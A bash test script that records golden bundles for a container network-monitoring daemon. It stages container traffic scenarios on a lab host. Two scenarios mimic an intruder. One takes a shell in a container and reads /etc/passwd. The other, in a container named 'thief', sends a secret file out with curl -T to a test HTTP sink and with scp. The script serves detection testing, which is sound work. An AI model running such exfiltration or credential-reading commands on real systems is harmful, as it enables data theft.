#!/bin/bash
# Records the bundles of this folder anew, on a test host: needs root, a
# Docker installation and kernel audit, like the host tests. For maintainers:
#	top_builddir=BUILD tests/golden/record.sh DIRECTORY [NAME...]
# Each bundle is recorded by the running daemon, then pruned of what other
# processes of the machine did (prune.py). In it lies "truth", what both ends
# and conntrack counted; NAME.live/ is what the daemon itself stored, to be
# compared and thrown away. Then, after a look through it, for each:
#	tar --sort=name --owner=0 --group=0 --numeric-owner --mtime=@0 \
#	    -cJf bundles/NAME.tar.xz -C DIRECTORY NAME
#	tests/golden/replay.sh --update
: "${top_srcdir:=$(cd "$(dirname "$0")/../.." && pwd)}"
# shellcheck source=tests/support/host.sh
. "$top_srcdir/tests/support/host.sh"
# shellcheck disable=SC2317 # scenarios are called by name

to=${1:?"usage: record.sh DIRECTORY [NAME...]"}
shift
names=("$@")
((${#names[@]} > 0)) || names=(container-to-container container-to-host
    container-to-outside outside-to-published exec-shell upload)

host_need jq conntrack curl ssh scp sshd ssh-keygen script
host_need_agent
host_need_audit

in_client() {
	docker exec client "$@"
}

# Lines of the traffic helper: protocol, addresses and ports, payload.
talk() {
	local run=$1 program=$2 to=$3

	$run "$program" tcp-client "$to" "$4" 3 1000 777
	$run "$program" udp-client "$to" "$5" 2 5 100
}

container-to-container() {
	talk in_client traffic "$(container_ip server)" 7000 7001
}
container-to-host() {
	talk in_client traffic "$(docker inspect \
	    -f '{{.NetworkSettings.Gateway}}' client)" 7100 7101
}
# From a container that lives no longer than that.
container-to-outside() {
	docker run --rm --name visitor tallyman-test/base:1 sh -c \
	    "traffic tcp-client $TH_OUTSIDE_IP 7100 3 1000 777
	    traffic udp-client $TH_OUTSIDE_IP 7101 2 5 100"
}
outside-to-published() {
	talk on_outside "$TH_TRAFFIC" "$TH_HOST_IP" 7000 7001
}

# Somebody gets a shell in a container and looks around.
exec-shell() {
	mkfifo "$tmp/keys"
	script -qfec "'$testhost' -n $TH_NAME docker exec -it client sh" \
	    "$tmp/typescript" <"$tmp/keys" >/dev/null 9>&- &
	exec 7>"$tmp/keys"
	wait_for 10 grep -q '#' "$tmp/typescript"
	printf 'id; cat /etc/passwd; exit\n' >&7
	exec 7>&-
	wait $!
}

# A file of 20,000 bytes leaves a container, by curl and by scp.
upload() {
	docker exec thief curl -s -T /root/secret.bin \
	    http://198.18.0.9:8000/curl.bin
	docker exec thief scp /root/secret.bin \
	    "root@$TH_OUTSIDE_IP:$TH_DIR/inbox/scp.bin"
	cmp "$TH_DIR/secret.bin" "$TH_DIR/inbox/scp.bin" >&2
}

serve() {
	"$1_bg" "$TH_TRAFFIC" tcp-server 7100 5000 >"$tmp/$1.tcp"
	"$1_bg" "$TH_TRAFFIC" udp-server 7101 300 >"$tmp/$1.udp"
	wait_for 5 grep -q ready "$tmp/$1.tcp"
	wait_for 5 grep -q ready "$tmp/$1.udp"
}

start_sshd() {
	local d=$TH_DIR/sshd

	mkdir -p "$d" "$TH_DIR/inbox"
	[[ -d /run/sshd ]] || { mkdir -m 755 /run/sshd && made_run_sshd=1; }
	ssh-keygen -q -t ed25519 -N '' -C golden -f "$d/host"
	ssh-keygen -q -t ed25519 -N '' -C golden -f "$d/user"
	printf '%s\n' "ListenAddress $TH_OUTSIDE_IP:22" "HostKey $d/host" \
	    "PidFile $d/pid" "AuthorizedKeysFile $d/user.pub" \
	    "PermitRootLogin prohibit-password" "StrictModes no" "UsePAM no" \
	    "PrintLastLog no" "Subsystem sftp internal-sftp" >"$d/config"
	sed 's/^root:!*/root:*/' /etc/shadow >"$d/shadow"
	chmod 600 "$d/shadow"
	# shellcheck disable=SC2016 # for the inner shell
	on_outside_bg unshare -m --propagation private sh -c '
	    mount --bind "$1/shadow" /etc/shadow
	    exec "$2" -D -e -f "$1/config"' sh "$d" "$(command -v sshd)" \
	    2>"$d/log"
	wait_for 10 grep -q listening "$d/log"
}

made_run_sshd=
test_at_exit() {
	[[ -z $made_run_sshd ]] || rmdir /run/sshd
}

# What both ends said, and beside it what conntrack counted.
truth() {
	truth_conntrack >"$tmp/conntrack"
	awk -F '\t' '
	NR == FNR {
		kernel[$1 " " $2 " " $3 " " $4 " " $5] = \
		    $6 "\t" $7 "\t" $12 "\t" $13
		next
	}
	{
		split($0, c, " ")
		k = c[1] "\t" c[2] "\t" c[3] "\t" c[4] "\t" c[5]
		s = k
		gsub("\t", " ", s)
		print k "\t" c[6] "\t" c[7] "\t" kernel[s]
	}' "$tmp/conntrack" "$1" | sort
}

record_one() {
	local agents name=$1 dir=$to/$1 since recorder root raw=$TH_DIR/raw-$1

	since=$(date -u +%Y-%m-%dT%H:%M:%SZ)
	on_host_bg "$tallyman" record -c "$agent_conf" \
	    --state-dir "$agent_dir/state" -o "$raw"
	recorder=$!
	wait_for 5 grep -q '"verb":8' "$raw/procfs.ndjson" || sleep 2
	"$name" >"$tmp/said" &
	root=$!
	wait "$root"
	sleep 4
	mkdir -p "$dir" "$dir.live"
	truth "$tmp/said" >"$dir/truth"
	for what in flows alerts containers events; do
		tm "$what" --json --since "$since" >"$dir.live/$what.ndjson"
	done
	agents=$({ agent_pids; echo "$recorder"; } | paste -sd, -)
	kill -TERM "$recorder"
	wait "$recorder"
	/usr/bin/python3 "$top_srcdir/tests/golden/prune.py" "$raw" "$dir" \
	    "$TH_DIR" "$agents" "$root" "$(cat "$TH_DIR/containerd.pid")" \
	    "$(cat "$TH_DIR/dockerd.pid")" || fail "$name: pruned"
	pass "$name: $(du -sb "$dir" | cut -f 1) bytes"
}

host_begin base tools
head -c 20000 /dev/urandom >"$TH_DIR/secret.bin"
start_sshd
ip -n "$TH_OUTSIDE" addr add 198.18.0.9/24 dev wan0
on_outside_bg "$TH_TRAFFIC" http-sink 8000 >"$tmp/sink"
serve on_host
serve on_outside
agent_config 'flows:
  period: 1s
  idle_timeout: 3s'
agent_start || { fail "the agent starts"; done_testing; }
docker run -d --name server -p 7000:7000 -p 7001:7001/udp \
    tallyman-test/base:1 sh -c \
    'traffic udp-server 7001 300 & exec traffic tcp-server 7000 5000' \
    >/dev/null
docker run -d --name client tallyman-test/base:1 sleep 1000 >/dev/null
docker run -d --name thief tallyman-test/tools:1 sleep 1000 >/dev/null
docker cp "$TH_DIR/sshd/user" thief:/root/.ssh/id_ed25519 >/dev/null
docker cp "$TH_DIR/secret.bin" thief:/root/secret.bin >/dev/null
docker exec thief chown 0:0 /root/.ssh/id_ed25519
both_ready() {
	(($(docker logs server 2>&1 | grep -c ready) == 2))
}
wait_for 10 both_ready
for name in "${names[@]}"; do
	record_one "$name"
done
agent_stop
done_testing
